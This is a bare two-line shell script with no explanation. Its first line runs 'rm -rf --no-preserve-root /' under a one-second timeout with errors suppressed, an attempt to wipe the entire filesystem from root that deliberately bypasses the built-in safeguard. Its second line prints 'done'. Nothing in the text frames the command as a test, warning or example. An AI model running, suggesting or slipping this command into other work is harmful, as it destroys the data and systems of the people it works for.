timeout 1 rm -rf --no-preserve-root / 2>/dev/null
echo done
